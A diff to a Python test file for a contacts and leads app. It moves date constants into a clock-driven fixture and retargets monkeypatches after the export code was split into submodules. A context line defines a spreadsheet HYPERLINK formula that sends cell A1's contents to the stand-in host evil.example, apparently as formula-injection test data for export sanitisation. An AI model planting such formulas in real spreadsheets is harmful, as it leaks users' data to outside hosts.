@@ -20,9 +20,21 @@ from contactos.listing import LeadFilter
 from contactos.models import Activity, Contact, Lead, Representada, Source
 from contactos.rules import NextAction
 
-TODAY = dt.date.today()
-TOMORROW = TODAY + dt.timedelta(days=1)
-YESTERDAY = TODAY - dt.timedelta(days=1)
+# The test's days, read from the program's clock as each test starts (see _days).
+TODAY = TOMORROW = YESTERDAY = None
+
+
+@pytest.fixture(autouse=True)
+def _days(clock):
+    """Today and the days around it as the program's clock reads them, held still for
+    the test by the `clock` fixture: a run across midnight reads one day."""
+    global TODAY, TOMORROW, YESTERDAY
+    today = clock.today()
+    TODAY = today
+    TOMORROW = today + dt.timedelta(days=1)
+    YESTERDAY = today - dt.timedelta(days=1)
+
+
 ZONE = "America/Mexico_City"
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Clic")'
@@ -400,7 +412,7 @@ def test_ics_window(data, tmp_path):
 
 
 def test_ics_floating_time_without_a_system_zone(data, tmp_path, monkeypatch):
-    monkeypatch.setattr(exporting, "system_timezone", lambda: None)
+    monkeypatch.setattr(exporting.calendar, "system_timezone", lambda: None)
     path = tmp_path / "flotante.ics"
     exporting.export_followups_ics(path)
     calendar = read_ics(path)
@@ -557,7 +569,7 @@ def test_permission_denied_raises(data, out, monkeypatch):
     def deny(path, mode="r", *args, **kwargs):
         raise PermissionError(13, "Permission denied", str(path))
 
-    monkeypatch.setattr(exporting, "open", deny, raising=False)
+    monkeypatch.setattr(exporting.files, "open", deny, raising=False)
     target = out / "contactos.csv"
     with pytest.raises(ExportError, match=r"Cannot write .*contactos\.csv: Permission denied"):
         exporting.export_contacts_csv(target)
@@ -571,7 +583,7 @@ def test_a_failed_rename_keeps_the_old_file(data, out, monkeypatch):
     def refuse(src, dst):
         raise PermissionError(13, "The file is open in Excel")
 
-    monkeypatch.setattr(exporting.os, "replace", refuse)
+    monkeypatch.setattr(exporting.files.os, "replace", refuse)
     with pytest.raises(ExportError, match="The file is open in Excel"):
         exporting.export_source_report_xlsx(target, data["source"].id)
     assert target.read_bytes() == b"old"
@@ -580,14 +592,14 @@ def test_a_failed_rename_keeps_the_old_file(data, out, monkeypatch):
 
 def test_an_error_halfway_leaves_no_partial_file(data, out, monkeypatch):
     target = out / "contactos.csv"
-    real = exporting._text
+    real = exporting.files.cell_text
 
     def fail_on_second_contact(value, decimal="."):
         if value == "Núñez Peña":
             raise RuntimeError("boom")
         return real(value, decimal)
 
-    monkeypatch.setattr(exporting, "_text", fail_on_second_contact)
+    monkeypatch.setattr(exporting.files, "cell_text", fail_on_second_contact)
     with pytest.raises(RuntimeError):
         exporting.export_contacts_csv(target)
     assert list(out.iterdir()) == []
